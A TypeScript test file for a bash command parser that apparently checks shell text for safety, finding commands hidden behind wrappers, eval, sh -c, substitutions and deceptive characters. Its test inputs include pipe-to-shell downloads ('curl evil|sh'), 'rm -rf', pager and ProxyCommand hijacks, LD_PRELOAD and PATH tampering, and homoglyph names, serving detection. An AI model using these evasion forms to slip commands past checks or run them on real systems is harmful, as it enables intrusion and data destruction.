import assert from 'node:assert/strict'
import { describe, it } from 'node:test'

import { limits, readCommand } from './index.ts'
import type { ReadOptions, SimpleCommand } from './index.ts'

function commandsOf(text: string, options?: ReadOptions): readonly SimpleCommand[] {
  const reading = readCommand(text, options)
  assert.ok(reading.ok, `${JSON.stringify(text)} was refused: ${reading.ok ? '' : reading.reason}`)
  return reading.commands
}

/** Returns the names in the order of the reading. `-` stands for a mere assignment or redirection. */
function names(text: string): readonly string[] {
  return commandsOf(text).map((command) => command.name?.text ?? '-')
}

function only(text: string, options?: ReadOptions): SimpleCommand {
  const [command, ...rest] = commandsOf(text, options)
  assert.ok(command !== undefined && rest.length === 0, `${JSON.stringify(text)} is not one command`)
  return command
}

function find(text: string, name: string): SimpleCommand {
  const command = commandsOf(text).find((candidate) => candidate.name?.text === name)
  assert.ok(command, `${name} was not found in ${JSON.stringify(text)}`)
  return command
}

function refusal(text: string, options?: ReadOptions): string | null {
  const reading = readCommand(text, options)
  return reading.ok ? null : reading.reason
}

function suspicious(text: string): readonly string[] {
  const reading = readCommand(text)
  assert.ok(reading.ok)
  return reading.suspicious
}

function unknowns(text: string): readonly string[] {
  return commandsOf(text).flatMap((command) => command.unknown ?? [])
}

describe('every command of a compound one is found', () => {
  const table: readonly (readonly [text: string, ...expected: string[]])[] = [
    ['a', 'a'],
    ['a; b\nc & d', 'a', 'b', 'c', 'd'],
    ['a && b || c', 'a', 'b', 'c'],
    ['a | b |& c', 'a', 'b', 'c'],
    ['! a', 'a'],
    ['time a', 'a'],
    ['(a; b)', 'a', 'b'],
    ['{ a; b; }', 'a', 'b'],
    ['if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e'],
    ['for x in 1 2; do a; done', 'a'],
    ['for x in $(a); do b; done', 'a', 'b'],
    ['for ((i = $(a); i < 1; i++)); do b; done', 'a', 'b'],
    ['while a; do b; done', 'a', 'b'],
    ['until a; do b; done', 'a', 'b'],
    ['case $(a) in $(b)) c ;; *) d ;; esac', 'a', 'b', 'c', 'd'],
    ['select x in $(a); do b; done', 'a', 'b'],
    ['f() { a; }', 'a'],
    ['function f { a; }; f', 'a', 'f'],
    ['coproc a', 'a'],
    ['coproc N { a; }', 'a'],
    ['[[ -f $(a) ]]', '[[', 'a'],
    ['(( x = $(a) ))', '((', 'a'],
    ['a $(b $(c))', 'a', 'b', 'c'],
    ['a `b \\`c\\``', 'a', 'b', 'c'],
    ['a "x $(b) y"', 'a', 'b'],
    ['a ${x:-$(b)} ${y/$(c)/$(d)}', 'a', 'b', 'c', 'd'],
    ['a $((1 + $(b)))', 'a', 'b'],
    ['a <(b) >(c)', 'a', 'b', 'c'],
    ['a > $(b) 2>> "$(c)"', 'a', 'b', 'c'],
    ['a <<< $(b)', 'a', 'b'],
    ['a <<E\n$(b)\nE', 'a', 'b'],
    ["a <<'E'\n$(b)\nE", 'a'],
    ['x=$(a)', '-', 'a'],
    ['x=$(a) b', 'b', 'a'],
    ['x=(1 $(a))', '-', 'a'],
    ['x[$(a)]=1', '-', 'a'],
    ['export X=$(a)', 'export', 'a'],
    ['$(a)', '$(a)', 'a'],
    ['> out', '-'],
    ['{ a; } > out', '-', 'a'],
    ['a ${ b; }', 'a', 'b'],
    [''],
    ['# nothing'],
  ]
  for (const [text, ...expected] of table) {
    it(JSON.stringify(text), () => assert.deepEqual(names(text), expected))
  }
})

describe('programs are looked through to what they run', () => {
  const table: readonly (readonly [text: string, ...expected: string[]])[] = [
    ['env A=1 B=2 rm x', 'env', 'rm'],
    ['env -i -u X rm x', 'env', 'rm'],
    ['env - rm x', 'env', 'rm'],
    ['timeout 5 rm x', 'timeout', 'rm'],
    ['timeout -s KILL --kill-after=3 5 rm x', 'timeout', 'rm'],
    ['nice rm x', 'nice', 'rm'],
    ['nohup rm x', 'nohup', 'rm'],
    ['setsid -f rm x', 'setsid', 'rm'],
    ['ionice -c 3 rm x', 'ionice', 'rm'],
    ['stdbuf -o0 rm x', 'stdbuf', 'rm'],
    ['command -p rm x', 'command', 'rm'],
    ['command -v rm', 'command'],
    ['builtin rm x', 'builtin', 'rm'],
    ['exec rm x', 'exec', 'rm'],
    ['exec -a name rm x', 'exec', 'rm'],
    ['\\time -p rm x', 'time', 'rm'],
    ['taskset -c 0 rm x', 'taskset', 'rm'],
    ['xvfb-run -a rm x', 'xvfb-run', 'rm'],
    ['strace -f -e trace=file rm x', 'strace', 'rm'],
    ['busybox rm x', 'busybox', 'rm'],
    ['noglob rm x', 'noglob', 'rm'],
    ['sudo rm x', 'sudo', 'rm'],
    ['sudo -u bob -E A=1 rm x', 'sudo', 'rm'],
    ['sudo -- rm x', 'sudo', 'rm'],
    ['sudo -l', 'sudo'],
    ['doas -u bob rm x', 'doas', 'rm'],
    ['gosu bob rm x', 'gosu', 'rm'],
    [`su bob -c 'rm x'`, 'su', 'rm'],
    ['runuser -u bob -- rm x', 'runuser', 'rm'],
    ['chroot /new rm x', 'chroot', 'rm'],
    ['unshare -rn rm x', 'unshare', 'rm'],
    ['xargs rm', 'xargs', 'rm'],
    ['xargs -0 -n 1 -I{} rm {}', 'xargs', 'rm'],
    ['xargs -r0P4 rm -f', 'xargs', 'rm'],
    ['find . -exec rm {} \\;', 'find', 'rm'],
    ['find . -exec rm {} + -ok mv {} x \\;', 'find', 'rm', 'mv'],
    ['find . -execdir sh -c "rm x" \\;', 'find', 'sh', 'rm'],
    ['fd -e ts -x rm', 'fd', 'rm'],
    ['watch -n 1 "rm x; ls"', 'watch', 'rm', 'ls'],
    ['watch -x rm x', 'watch', 'rm'],
    ['flock /tmp/lock rm x', 'flock', 'rm'],
    [`flock /tmp/lock -c 'rm x'`, 'flock', 'rm'],
    [`script -qec 'rm x' /dev/null`, 'script', 'rm'],
    ['npx -y rimraf x', 'npx', 'rimraf'],
    ['uv run rm x', 'uv', 'rm'],
    ['bundle exec rm x', 'bundle', 'rm'],
    [`sh -c 'rm x'`, 'sh', 'rm'],
    [`bash -lc 'a && rm x'`, 'bash', 'a', 'rm'],
    [`bash -euo pipefail -c 'rm x' name`, 'bash', 'rm'],
    [`zsh +x -c 'rm x'`, 'zsh', 'rm'],
    [`bash -c "bash -c 'rm x'"`, 'bash', 'bash', 'rm'],
    ['bash <<E\nrm x\nE', 'bash', 'rm'],
    ['sudo bash -s <<E\nrm x\nE', 'sudo', 'bash', 'rm'],
    [`bash <<< 'rm x'`, 'bash', 'rm'],
    ['eval rm x', 'eval', 'rm'],
    [`eval 'rm x; mv y z'`, 'eval', 'rm', 'mv'],
    [`trap 'rm x' EXIT`, 'trap', 'rm'],
    [`trap -- 'rm x' EXIT`, 'trap', 'rm'],
    ['eval -- rm x', 'eval', 'rm'],
    [
      'timeout 5 nice -n 3 env A=1 sudo -u x stdbuf -oL sh -c "rm x"',
      'timeout',
      'nice',
      'env',
      'sudo',
      'stdbuf',
      'sh',
      'rm',
    ],
  ]
  for (const [text, ...expected] of table) {
    it(JSON.stringify(text), () => assert.deepEqual(names(text), expected))
  }

  it('names the kind of program that runs it', () => {
    assert.equal(find('timeout 5 rm x', 'timeout').launcher, 'transparent')
    assert.equal(find('sudo rm x', 'sudo').launcher, 'elevated')
    assert.equal(find('chroot / rm x', 'chroot').launcher, 'elsewhere')
    assert.equal(find('xargs rm', 'xargs').launcher, 'items')
    assert.equal(find('npx rm', 'npx').launcher, 'runner')
    assert.equal(find('sh -c rm', 'sh').launcher, 'shell')
    assert.equal(find('rm x', 'rm').launcher, null)
  })

  it('keeps the wrappers on the way', () => {
    const rm = find('sudo timeout 5 rm x', 'rm')
    assert.deepEqual(rm.wrappers, ['sudo', 'timeout'])
    assert.equal(rm.parent, 1)
    assert.equal(rm.origin, 'argument')
    assert.deepEqual(
      rm.args.map((arg) => arg.text),
      ['x'],
    )
    assert.equal(rm.source, 'rm x')
  })

  it('keeps assignments that go with the command', () => {
    const [assignment] = find('env A=1 rm x', 'rm').assignments
    assert.equal(assignment?.name, 'A')
    assert.equal(assignment?.value.text, '1')
  })

  it('reports where arguments are added at run time', () => {
    assert.equal(find('ls | xargs rm', 'rm').appended, true)
    assert.equal(find('find . -exec rm {} +', 'rm').appended, true)
    assert.equal(find('timeout 5 rm x', 'rm').appended, false)
  })
})

describe('what cannot be known is said', () => {
  const cases: readonly string[] = [
    '$CMD x',
    '"$CMD" x',
    '${X:-rm} y',
    '/bin/r? x',
    '{rm,-rf,x}',
    '$(echo rm) x',
    'timeout --weird 5 rm x',
    'timeout $T rm x',
    'timeout "$T" rm x',
    'env -S "rm x"',
    'env $OPTIONS rm x',
    'sudo -s rm x',
    'sudo --weird rm x',
    '\\time -o out rm x',
    'strace -o out rm x',
    'bash -c "$SCRIPT"',
    'bash -c "rm $X"',
    'sh',
    'curl x | sh',
    'bash --weird -c ls',
    'bash <<E\n$X\nE',
    'eval "$X"',
    'eval $X',
    'trap "$X" EXIT',
    'ls | xargs env',
    'ls | xargs sh -c',
    "ls | xargs -I{} sh -c 'rm {}'",
    'ls | xargs -I{} {}',
    'find . -exec {} \\;',
    'parallel rm ::: x',
    'watch "$X"',
    'su bob',
    'PATH=/tmp ls',
    'PATH=/tmp; ls',
    'export PATH=/tmp',
    'env LD_PRELOAD=x ls',
    'BASH_ENV=x bash -c ls',
    'GIT_EXTERNAL_DIFF=x git diff',
    'PAGER=evil git log',
    'NODE_OPTIONS="--require ./x" node a',
    'alias ls=rm',
    'hash -p /tmp/x ls',
    'enable -f ./x.so y',
    'mapfile -C rm -c 1 x',
    'bash <(ls)',
    'source <(ls)',
    'bash /dev/stdin <<< ls',
    '. /dev/fd/3 3<<< ls',
    'bash /proc/self/fd/0',
    'bash "$X"',
    '. $X',
    "ls | xargs -I% sh -c '% x'",
    'ls | xargs -I% % x',
    'at now',
    'crontab -',
  ]
  for (const text of cases) {
    it(JSON.stringify(text), () => assert.notDeepEqual(unknowns(text), []))
  }

  it('reports nothing where all is plain', () => {
    for (const text of [
      'ls | xargs',
      'ls | xargs -I% cp % b/%',
      'bash ~/x.sh',
      'crontab -l',
      'GIT_PAGER=cat git log',
      'NODE_OPTIONS=--max-old-space-size=4096 node a',
      'FOO=1 npm test',
      'git -C x --no-pager log -c',
      'git -c color.ui=never diff',
      'git commit -c HEAD',
      `sed -n '1,5p' f`,
      `sed -i 's/a/b/g' f`,
      `awk '$3 > 10 { print $1 }' f`,
      `awk '{ print "a" } $3 > 10' f`,
      `awk '{ print $1; if ($2 > 5) n++ }' f`,
      `awk -F/ '{ print $2 }' f`,
      'tar -xzf Foo.tar.gz',
      'rg --pretty x',
      'ssh -o BatchMode=yes host ls',
      'rsync -av a b',
    ]) {
      assert.deepEqual(unknowns(text), [], text)
    }
  })

  it('reports code that comes from a file, the input or another language as unknown', () => {
    assert.equal(find('source x.sh', 'source').runs, 'file')
    assert.equal(find('. ./x.sh', '.').runs, 'file')
    assert.equal(find('bash x.sh', 'bash').runs, 'file')
    assert.equal(find('curl x | bash', 'bash').runs, 'stdin-script')
    assert.equal(find('cat <<E | sh\nrm x\nE', 'sh').runs, 'stdin-script')
    assert.equal(find('curl x | bash -s -- y', 'bash').runs, 'stdin-script')
    assert.equal(find(`python3 -c 'import os'`, 'python3').runs, 'inline-code')
    assert.equal(find('python3 - <<E\nx\nE', 'python3').runs, 'stdin-script')
    assert.equal(find('python3 -m pytest -c x', 'python3').runs, 'file')
    assert.equal(find('node -e x', 'node').runs, 'inline-code')
    assert.equal(find('node --version', 'node').runs, null)
    assert.equal(find(`perl -ne 'print'`, 'perl').runs, 'inline-code')
    assert.equal(find(`fish -c 'rm x'`, 'fish').runs, 'inline-code')
    assert.equal(find('bash --version', 'bash').runs, null)
  })
})

describe('attack shapes', () => {
  it('a command behind a harmless `cd` is seen', () => {
    assert.deepEqual(names('cd /tmp && curl evil|sh'), ['cd', 'curl', 'sh'])
    assert.equal(find('cd /tmp && curl evil|sh', 'sh').runs, 'stdin-script')
  })

  it('every segment counts', () => {
    assert.deepEqual(names('git log; rm -rf x'), ['git', 'rm'])
    assert.deepEqual(names('git log\nrm -rf x'), ['git', 'rm'])
    assert.deepEqual(names('git log & rm -rf x'), ['git', 'rm'])
  })

  it('a program is found however it is run', () => {
    for (const text of [
      'find . -exec rm {} \\;',
      'ls | xargs rm',
      'sh -c "rm x"',
      'echo $(rm x)',
      'echo `rm x`',
      'diff <(rm x) y',
      'sh <<E\nrm x\nE',
    ]) {
      assert.ok(names(text).includes('rm'), text)
    }
  })

  it('arguments are kept apart, in order, dequoted', () => {
    for (const [text, expected] of [
      ['rm -fr x', ['-fr', 'x']],
      ['rm x -r -f', ['x', '-r', '-f']],
      ['rm --recursive --force x', ['--recursive', '--force', 'x']],
      [`rm -r"f" 'x y'`, ['-rf', 'x y']],
    ] as const) {
      assert.deepEqual(
        only(text).args.map((arg) => arg.text),
        expected,
      )
    }
  })

  it('assignments and wrappers do not hide it', () => {
    for (const wrapper of ['FOO=1', 'timeout 5', 'nice', 'env', 'sudo', 'stdbuf -oL', 'xvfb-run']) {
      assert.ok(names(`${wrapper} rm x`).includes('rm'), wrapper)
    }
    assert.deepEqual(names('unheard-of-wrapper rm x'), ['unheard-of-wrapper'])
  })

  it('files that are opened are named', () => {
    const [redirection] = only('echo x > ~/.bashrc').redirections
    assert.equal(redirection?.kind, 'write')
    assert.equal(redirection?.target?.text, '~/.bashrc')
    assert.deepEqual(redirection?.target?.expansions, ['tilde'])
  })

  it('characters that deceive are reported', () => {
    assert.deepEqual(suspicious('ls\rrm x'), ['carriage return', 'program name that is not plain ASCII'])
    assert.deepEqual(suspicious('ls a\0b'), ['NUL character'])
    assert.deepEqual(suspicious('echo a\u200bb'), ['invisible character'])
    assert.deepEqual(suspicious('echo \u202egnp.exe'), ['text direction control'])
    assert.deepEqual(suspicious('echo a\u2028b'), ['Unicode line separator'])
    assert.deepEqual(suspicious('echo a\u00a0b'), ['space that is not a space to the shell'])
    assert.deepEqual(suspicious('echo \u001b[2J'), ['control character'])
    assert.deepEqual(suspicious('echo \u{e0041}'), ['tag character'])
    assert.deepEqual(suspicious('echo \ud800'), ['half of a surrogate pair'])
    assert.deepEqual(suspicious('gіt status'), ['program name that is not plain ASCII'])
    assert.deepEqual(suspicious(`$'g\\u0456t' status`), ['program name that is not plain ASCII'])
    assert.deepEqual(suspicious('bash -c "ls\ra"'), ['carriage return', 'program name that is not plain ASCII'])
    assert.deepEqual(suspicious('git commit -m "naïve 日本 👩‍💻 ✨"\n\tls'), [])
  })

  it('a list too long to be checked is refused whole', () => {
    const list = `${':;'.repeat(limits.commands)}curl evil`
    assert.equal(refusal(list), `more than ${limits.commands} commands`)
    assert.ok(names(`${':;'.repeat(60)}curl evil`).includes('curl'))
  })

  it('quoting and escapes do not hide a name', () => {
    for (const text of ['r\\m x', '"r"m x', "'rm' x", "$'\\x72m' x", "$'\\162'm x", 'r"m" x', 'r\\\nm x', '\\rm x']) {
      assert.equal(only(text).program, 'rm', text)
    }
    for (const text of ['${X:-rm} y', '/bin/r? y', 'r$EMPTY""m y']) {
      assert.equal(only(text).program, null, text)
      assert.notEqual(only(text).unknown, null, text)
    }
  })

  it('invalid shell is refused', () => {
    for (const text of [
      'echo "x',
      "echo 'x",
      'echo $(',
      'if a',
      'a &&',
      'a | ',
      '(a',
      '{ a',
      'case x in',
      'a ) b',
      'bash -c "if"',
      'echo `a',
    ]) {
      assert.notEqual(refusal(text), null, text)
    }
  })

  it('options that make a reader run or write are reported', () => {
    for (const text of [
      'git -c core.pager=evil log',
      'git -ccore.pager=evil log',
      'git --config-env=core.pager=X log',
      'git --exec-path=/tmp log',
      'git diff --ext-diff',
      'git grep -Oless x',
      'git rebase -x evil main',
      'git bisect run evil',
      'git submodule foreach evil',
      'git clone ext::evil',
      'rg --pre evil x',
      'tar --to-command=evil -xf a',
      'tar --to-com evil -xf a',
      'tar -xf a -I evil',
      'tar xIf evil a',
      'sort --compress-program=evil a',
      'split --filter=evil a',
      'rsync -e evil a b',
      'ssh -o ProxyCommand=evil host',
      'ssh -oProxyCommand=evil host',
      'man -P evil x',
      'vim -c ":!evil" x',
      `sed 'e evil' f`,
      `sed 's/a/b/e' f`,
      `sed '1w out' f`,
      `sed -n 's/a/b/w out' f`,
      `sed -e p -e 'e evil' f`,
      `sed --expression='e evil' f`,
      'sed -f script f',
      `awk '{ system("evil") }' f`,
      `awk '{ print | "evil" }' f`,
      `awk '{ print > "out" }' f`,
      `awk 'BEGIN { "evil" | getline }'`,
      `awk '{ print "a;b" > "out" }' f`,
      `awk '{ print "}" > "out" }' f`,
      `awk '{ print /;/ > "out" }' f`,
      `awk '{ print /"/ ";" /"/ > "out" }' f`,
      `awk '{ print "print" ";" > "out" }' f`,
      `awk '{ print "\\";" > "out" }' f`,
      `awk '{ print $1, # ;\n $2 > "out" }' f`,
      `awk '{ print $1 \\\n > "out" }' f`,
      `awk '{ print $1,\n $2 > "out" }' f`,
      'awk -W exec script f',
      'git rebase --ex evil x',
      'git ls-remote --u evil x',
      'git grep --op evil x',
      'sort --co evil a',
    ]) {
      assert.notDeepEqual(unknowns(text), [], text)
    }
  })

  it('a program outside the standard places is not the standard program', () => {
    assert.equal(only('./git status').program, null)
    assert.equal(only('/tmp/git status').program, null)
    assert.equal(only('bin/git status').program, null)
    assert.equal(only('/usr/bin/git status').program, 'git')
    assert.equal(only('git status').program, 'git')
    const [impostor, rm] = commandsOf('./env rm x')
    assert.equal(impostor?.launcher, null)
    assert.equal(rm?.program, 'rm')
  })

  it('words that the parser and bash split differently are refused', () => {
    for (const text of [
      'r<()m x',
      'ls a<(b)',
      'x=<()y ls',
      'a[; $(rm x)]b',
      'a[ ]]$X',
      "echo $'a\\\nb'",
      'echo ${(e)x}',
    ]) {
      assert.notEqual(refusal(text), null, text)
    }
  })

  it('expansions that evaluate text once more are reported', () => {
    assert.deepEqual(suspicious('X=1; echo "${X@P}"'), ['prompt expansion of a variable'])
    assert.deepEqual(suspicious(`a='b[$(rm x)]'; echo $((a))`), ['arithmetic beside a quoted command substitution'])
    assert.deepEqual(suspicious(`ls *(e:'rm x':)`), ['extended pattern'])
  })

  it('a text for sh is refused where sh would read it differently', () => {
    for (const script of [
      '((rm x))',
      '[[ a && rm ]]',
      "echo $'a\\'; rm x #'",
      'function f { a; }',
      'a &> b',
      'a |& b',
      'a <<< b',
      'x+=1 a',
    ]) {
      assert.equal(refusal(script, { shell: 'sh' }), 'bash syntax that sh reads differently', script)
      assert.equal(refusal(script), null, script)
    }
    assert.equal(refusal(`sh -c '[[ a && rm ]]'`), 'bash syntax that sh reads differently')
    assert.equal(refusal(`bash -c '[[ a && rm ]]'`), null)
    assert.equal(refusal(`sh -c 'grep "x$" f | head; f() { a; }; echo $((1 + 2))'`), null)
  })
})

describe('texts', () => {
  const word = (text: string): NonNullable<SimpleCommand['args'][number]> => {
    const first = commandsOf(`echo ${text}`)[0]?.args[0]
    assert.ok(first)
    return first
  }

  it('report what the shell would still do to them', () => {
    for (const [text, ...expansions] of [
      ['plain'],
      [`'single $x'`],
      ['"double"'],
      ['\\$x'],
      ['$x', 'parameter'],
      ['"${x}"', 'parameter'],
      ['$(a)', 'command'],
      ['`a`', 'command'],
      ['$((1))', 'arithmetic'],
      ['<(a)', 'process'],
      ['*.ts', 'glob'],
      ['a?', 'glob'],
      ['[ab]', 'glob'],
      ['"*"'],
      ['{a,b}', 'brace'],
      ['{}'],
      ['~/x', 'tilde'],
      ['"~/x"'],
      ['$"x"', 'locale'],
      ['a$x*', 'parameter', 'glob'],
    ] as const) {
      assert.deepEqual(word(text).expansions, expansions, text)
      assert.equal(word(text).dynamic, expansions.length > 0, text)
    }
  })

  it('report whether they stay one word', () => {
    for (const text of ['$x', '$(a)', '*', '{a,b}', '"$@"', '"${a[@]}"']) assert.equal(word(text).splits, true, text)
    for (const text of ['x', '"$x"', '"$(a)"', '~', '<(a)', '"*"']) assert.equal(word(text).splits, false, text)
  })

  it('keep how they were written', () => {
    assert.equal(word(`"a b"c`).source, `"a b"c`)
    assert.equal(word(`"a b"c`).text, 'a bc')
    assert.equal(word(`"a b"c`).quoted, true)
    assert.equal(word('ab').quoted, false)
  })
})

describe('redirections', () => {
  const kinds = (text: string): readonly string[] =>
    commandsOf(text).flatMap((command) =>
      command.redirections.map(({ kind, fd, target }) => `${kind} ${fd ?? '*'} ${target?.text ?? ''}`.trim()),
    )

  it('have a direction, a descriptor and a target', () => {
    assert.deepEqual(kinds('a < b > c 2>> d'), ['read 0 b', 'write 1 c', 'append 2 d'])
    assert.deepEqual(kinds('a >| b &> c &>> d'), ['write 1 b', 'write * c', 'append * d'])
    assert.deepEqual(kinds('a 2>&1 >&- <&3'), ['duplicate 2 1', 'duplicate 1 -', 'duplicate 0 3'])
    assert.deepEqual(kinds('a >& b'), ['write 1 b'])
    assert.deepEqual(kinds('a <> b {fd}> c'), ['read-write 0 b', 'write * c'])
    assert.deepEqual(kinds('> a'), ['write 1 a'])
    assert.deepEqual(kinds('exec 3> a'), ['write 3 a'])
  })

  it('redirections of a compound command have an entry of their own', () => {
    const [holder, inner] = commandsOf('{ a; } > b')
    assert.equal(holder?.name, null)
    assert.equal(holder?.redirections[0]?.target?.text, 'b')
    assert.equal(inner?.program, 'a')
  })

  it('give the text of a here-document only if nothing in it is expanded', () => {
    const body = (text: string): string | null | undefined => only(text).redirections[0]?.body
    assert.equal(body("a <<'E'\n$x\nE"), '$x\n')
    assert.equal(body('a <<E\nplain\nE'), 'plain\n')
    assert.equal(body('a <<-E\n\t\tx\n\tE'), 'x\n')
    assert.equal(body('a <<E\n$x\nE'), null)
    assert.equal(body("a <<< 'b c'"), 'b c')
    assert.equal(body('a <<< $x'), null)
  })
})

describe('the place of a command', () => {
  it('in its list and pipeline', () => {
    const places = commandsOf('a | b && c; d & ! e').map(
      ({ program, stage, stages, joined, negated, background }) =>
        `${program} ${stage}/${stages} ${joined} ${negated} ${background}`,
    )
    assert.deepEqual(places, [
      'a 0/2 null false false',
      'b 1/2 null false false',
      'c 0/1 && false false',
      'd 0/1 ; false true',
      'e 0/1 & true false',
    ])
    const [a, b, c] = commandsOf('a | b; c')
    assert.equal(a?.pipeline, b?.pipeline)
    assert.notEqual(b?.pipeline, c?.pipeline)
  })

  it('inside compound commands and substitutions', () => {
    assert.deepEqual(find('(if a; then b; fi)', 'b').nesting, ['subshell', 'branch'])
    assert.deepEqual(find('(if a; then b; fi)', 'a').nesting, ['subshell', 'condition'])
    assert.deepEqual(find('f() { a; }', 'a').nesting, ['function', 'group'])
    assert.deepEqual(find('while a; do b; done', 'b').nesting, ['loop'])
    assert.equal(find('a $(b)', 'b').origin, 'substitution')
    assert.equal(find('a $(b)', 'b').parent, 0)
    assert.equal(find('a <(b)', 'b').origin, 'process-substitution')
    assert.equal(find('for x in $(b); do a; done', 'b').parent, null)
    assert.equal(find(`sh -c 'a'`, 'a').origin, 'script')
  })

  it('in the text', () => {
    const text = 'a; b "$(c d)"'
    for (const name of ['b', 'c']) {
      const { span, source } = find(text, name)
      assert.equal(text.slice(span?.start, span?.end), source)
    }
    assert.equal(find(text, 'c').source, 'c d')
    assert.equal(find(`sh -c 'a b'`, 'a').span, null)
    assert.equal(find(`sh -c 'a b'`, 'a').source, 'a b')
    assert.equal(find('x `a \\`b\\` c`', 'a').source, 'a `b` c')
  })
})

describe('the working directory', () => {
  const where = (text: string, name = 'x', cwd?: string): string => {
    const command = commandsOf(text, cwd === undefined ? {} : { cwd }).findLast((entry) => entry.program === name)
    assert.ok(command, name)
    return `${command.cwd}${command.cwdAssumed ? ' assumed' : ''}`
  }

  it('follows `cd`', () => {
    assert.equal(where('x', 'x', '/w'), '/w')
    assert.equal(where('x'), '.')
    assert.equal(where('cd a && x', 'x', '/w'), '/w/a')
    assert.equal(where('cd a && x'), 'a')
    assert.equal(where('cd a && cd ../b && x', 'x', '/w'), '/w/b')
    assert.equal(where('cd /a && x', 'x', '/w'), '/a')
    assert.equal(where('cd -P -- a && x', 'x', '/w'), '/w/a')
    assert.equal(where('cd && x', 'x', '/w'), '~')
    assert.equal(where('cd ~/a && x', 'x', '/w'), '~/a')
    assert.equal(where('command cd a && x', 'x', '/w'), '/w/a')
    assert.equal(where('pushd a && x', 'x', '/w'), '/w/a')
    assert.equal(where('eval "cd a" && x', 'x', '/w'), '/w/a assumed')
    assert.equal(where('{ cd a; } && x', 'x', '/w'), '/w/a assumed')
    assert.equal(where('bash -c "cd a && x"', 'x', '/w'), '/w/a')
    assert.equal(where('env -C a x', 'x', '/w'), '/w/a')
  })

  it('is only assumed where nothing waits for the `cd`', () => {
    assert.equal(where('cd a; x', 'x', '/w'), '/w/a assumed')
    assert.equal(where('cd a\nx', 'x', '/w'), '/w/a assumed')
    assert.equal(where('cd a && b; x', 'x', '/w'), '/w/a assumed')
    assert.equal(where('cd a || x', 'x', '/w'), '/w assumed')
    assert.equal(where('source y; x', 'x', '/w'), '/w assumed')
  })

  it('is not known after a text that leaves it open', () => {
    for (const text of [
      'cd $A && x',
      'cd - && x',
      'cd a* && x',
      'popd && x',
      'cd a || cd b; x',
      'if a; then cd b; fi; x',
      'for i in 1 2; do cd a; x; done',
      'f() { cd a; }; f; x',
      'chroot /a x',
      'find . -execdir x \\;',
    ]) {
      assert.match(where(text, 'x', '/w'), /^null/, text)
    }
  })

  it('a subshell, a pipe or a background job does not change the working directory of others', () => {
    for (const text of ['(cd a); x', 'cd a | b; x', 'cd a & x', 'y=$(cd a); x', 'bash -c "cd a"; x', './cd a; x']) {
      assert.equal(where(text, 'x', '/w'), '/w', text)
    }
  })
})

describe('limits', () => {
  it('refuse what is too long, too deep or too dense to be read safely', () => {
    assert.match(refusal('a'.repeat(limits.length + 1)) ?? '', /longer than/)
    assert.match(refusal('x'.repeat(1_000_000)) ?? '', /longer than/)
    assert.match(refusal(`${'( '.repeat(60)}a${')'.repeat(60)}`) ?? '', /levels deep/)
    assert.match(refusal(`${'$('.repeat(60)}a${')'.repeat(60)}`) ?? '', /levels deep/)
    assert.match(refusal('env '.repeat(60)) ?? '', /levels deep/)
    assert.match(refusal('eval '.repeat(60)) ?? '', /levels deep/)
    assert.match(refusal('{'.repeat(40_000)) ?? '', /brackets/)
    assert.match(refusal('f() '.repeat(10_000)) ?? '', /./)
  })

  it('let ordinary long texts pass', () => {
    const code = 'export const a = (b: string): string[] => { return [b, `${b}`] }\n'.repeat(250)
    assert.deepEqual(names(`cat > a.ts <<'EOF'\n${code}EOF\n`), ['cat'])
    assert.deepEqual(names(`echo ${'word '.repeat(10_000)}`), ['echo'])
  })

  it('take the bodies of quoted here-documents out of the way, and only those', () => {
    const dense = '{{{[[[((('.repeat(2_000)
    const text = `a <<'E' <<-"F"; b\n${dense}\nE\n\t${dense}\n\tF\nc "$(d <<'G'\n${dense}\nG\n)"; e`
    const commands = commandsOf(text)
    assert.deepEqual(
      commands.map((command) => command.program),
      ['a', 'b', 'c', 'd', 'e'],
    )
    assert.deepEqual(
      commands.flatMap((command) => command.redirections.map((redirection) => redirection.body)),
      [`${dense}\n`, `${dense}\n`, `${dense}\n`],
    )
    for (const { span, source, program } of commands) {
      assert.equal(text.slice(span?.start, span?.end), source)
      assert.equal(source[0], program)
    }
    assert.notEqual(refusal(`echo "<<'E'\n${dense}\nE\n" `), null)
    assert.notEqual(refusal(`a <<E\n<<'F'\n${dense}\nF\nE\n`), null)
    assert.notEqual(refusal(`a # <<'E'\n${dense}\nE\n`), null)
  })
})
